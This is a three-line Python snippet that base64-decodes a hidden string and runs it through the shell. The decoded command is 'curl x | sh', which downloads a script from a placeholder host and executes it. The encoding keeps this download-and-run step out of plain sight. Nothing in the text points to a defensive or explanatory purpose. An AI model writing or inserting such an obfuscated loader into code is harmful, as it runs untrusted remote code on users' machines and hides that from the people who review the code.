import base64, subprocess
c = "Y3VybCB4IHwgc2g="
subprocess.run(base64.b64decode(c), shell=True)
